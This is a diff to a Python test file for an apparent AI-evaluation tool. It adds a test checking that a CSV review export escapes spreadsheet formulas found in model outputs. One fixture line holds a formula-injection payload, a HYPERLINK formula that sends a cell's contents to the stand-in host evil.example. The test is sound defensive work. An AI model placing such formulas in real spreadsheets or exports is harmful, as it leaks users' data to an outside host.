@@ -7,7 +7,9 @@ import pytest
 from typer.testing import CliRunner
 
 from vlmtrust.cli.main import app
-from vlmtrust.store import ResultStore
+from vlmtrust.core.records import Score
+from vlmtrust.review import export_review
+from vlmtrust.store import ResultStore, StoredResult
 
 runner = CliRunner()
 TASK = "fairness.group_performance"
@@ -95,3 +97,40 @@ def test_import_rejects_a_file_from_another_run(tmp_path):
     bad.write_text("key,metric,human_label,human_value\nk,correct,x,maybe\n")
     result = runner.invoke(app, ["review", "import", str(bad), str(run_dir)])
     assert result.exit_code == 2 and "not a number" in result.stderr
+
+
+def test_export_keeps_spreadsheets_from_running_model_output(tmp_path):
+    """A model's answer like ``=HYPERLINK(...)`` is written so a spreadsheet shows it as text,
+    and the file still imports."""
+    run_dir = tmp_path / "run"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with ResultStore.in_dir(run_dir) as store:
+        store.start_run("r1", {"tasks": [{"name": TASK, "params": {}}]})
+        scores = (
+            Score(sample_id="s1", metric="correct", value=0.0, details={"response": hostile}),
+            Score(sample_id="s2", metric="correct", value=-1.5, details={"response": "@SUM(1)"}),
+        )
+        store.append(
+            [
+                StoredResult(
+                    key=f"k{i}",
+                    task=TASK,
+                    attack="none",
+                    mitigation="none",
+                    model="m",
+                    sample_id=s.sample_id,
+                    scores=(s,),
+                )
+                for i, s in enumerate(scores)
+            ]
+        )
+        store.finish_run("r1", "complete", {})
+    review = tmp_path / "review.csv"
+    assert export_review(run_dir, review) == 2
+    with review.open(newline="") as handle:
+        rows = {r["sample_id"]: r for r in csv.DictReader(handle)}
+    assert rows["s1"]["model_output"] == "'" + hostile
+    assert rows["s2"]["model_output"] == "'@SUM(1)"
+    assert rows["s2"]["judge_value"] == "-1.5"  # numbers stay numbers
+    for row in rows.values():
+        assert not row["model_output"].startswith(("=", "+", "-", "@"))
